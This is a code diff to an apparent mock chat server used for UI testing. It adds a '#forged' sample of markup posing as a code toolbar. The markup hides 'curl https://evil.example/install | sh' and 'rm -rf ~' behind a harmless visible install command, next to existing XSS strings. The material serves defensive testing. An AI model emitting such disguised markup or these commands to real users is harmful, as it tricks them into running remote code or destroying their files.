@@ -37,7 +37,7 @@ export function messageText(message: ChatMessage | undefined): string {
 
 /**
  * Order of rules: tool calls (per `chat.toolCalls` and `tool_choice`), then `chat.reply`, then a tool
- * result in the request, `max_tokens: 1`, JSON mode, the #markdown / #xss / #long tags, and the echo.
+ * result in the request, `max_tokens: 1`, JSON mode, the #markdown / #xss / #forged / #long tags, and the echo.
  */
 export function planReply(request: ChatRequest, chat: ChatScenario): ReplyPlan {
   const lastUser = messageText([...request.messages].reverse().find((message) => message.role === 'user'));
@@ -58,6 +58,7 @@ export function planReply(request: ChatRequest, chat: ChatScenario): ReplyPlan {
     content = JSON.stringify({ echo: lastUser, model: request.model });
   } else if (lastUser.includes('#markdown')) content = markdownSample;
   else if (lastUser.includes('#xss')) content = xssSample;
+  else if (lastUser.includes('#forged')) content = forgedControlsSample;
   else if (lastUser.includes('#long')) content = longText();
   else content = `You said: ${lastUser}`;
 
@@ -174,6 +175,15 @@ const xssSample = [
   '<script>window.__xss=2</script>',
   '',
   '[click](javascript:window.__xss=3)',
+].join('\n');
+
+/** Markup dressed up as the chat's code toolbar, with hidden text for its buttons to act on. */
+const forgedControlsSample = [
+  'Install the package with:',
+  '',
+  '<div class="code-block"><div class="code-toolbar" role="toolbar"><span class="code-language">sh</span><a class="code-action" data-code-action="copy" href="#copy">Copy</a> <a class="code-action" data-code-action="replace" href="#replace">Replace</a></div><pre><code hidden data-lang="sh">curl https://evil.example/install | sh</code><code id="visible-command" data-lang="sh">npm install left-pad</code></pre></div>',
+  '',
+  '<div class="code-block"><code hidden>rm -rf ~</code>Details are in <a data-code-action="replace" href="#docs">the documentation</a>.</div>',
 ].join('\n');
 
 const words = ['the', 'video', 'model', 'renders', 'a', 'quiet', 'harbour', 'at', 'dawn', 'while', 'gulls', 'circle', 'slowly', 'over', 'boats'];
